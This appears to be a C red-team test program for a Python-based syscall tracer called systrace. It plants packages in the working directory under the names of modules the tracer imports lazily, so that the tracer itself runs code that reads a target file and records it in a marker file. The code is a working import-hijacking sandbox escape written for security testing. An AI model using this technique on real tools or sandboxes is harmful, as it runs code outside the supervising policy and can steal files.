/* tr_import.c: code planted where the tracer imports from (issue 11, red team 3).
 *
 * systrace is a Python program, and Python puts the command's own directory first on
 * sys.path: the cwd for `python -m systrace_py`, the script's directory for the console
 * script.  Some modules it imports only when they are needed, while the traced program runs
 * (prompt_toolkit at the first question, tomlkit when an answer is saved).  The program
 * works in the tracer's cwd unless told otherwise: a package it planted there under such a
 * name was imported by the tracer, and ran outside every policy.
 *
 *   tr_import PACKAGE...   plant each PACKAGE in the cwd -- its __init__.py reads
 *                          $ESC_TARGET and writes it to $ESC_MARKER --, then make a call
 *                          the policy asks about (socket), which gets an answer saved
 *
 * The verdict is the marker's: the program cannot see the tracer run its code.
 */
#include "attack.h"

#include <sys/socket.h>

int main(int argc, char **argv) {
    if (argc < 2)
        usage("tr_import PACKAGE...");
    for (int i = 1; i < argc; i++) {
        char path[512];
        mkdir(argv[i], 0755);
        snprintf(path, sizeof path, "%s/__init__.py", argv[i]);
        FILE *f = fopen(path, "w");
        if (!f)
            blocked("planting %s: %s", path, ename(errno));
        fprintf(f, "import os\n"
                   "try:\n"
                   "    got = open(os.environ['ESC_TARGET']).read()\n"
                   "except OSError as exc:\n"
                   "    got = str(exc)\n"
                   "with open(os.environ['ESC_MARKER'], 'a') as out:\n"
                   "    out.write('%s ran in ' + str(os.getpid()) + ': ' + got)\n", argv[i]);
        fclose(f);
    }
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    note("socket: %s", s < 0 ? ename(errno) : "made");
    blocked("planted %d packages in the cwd", argc - 1);
}
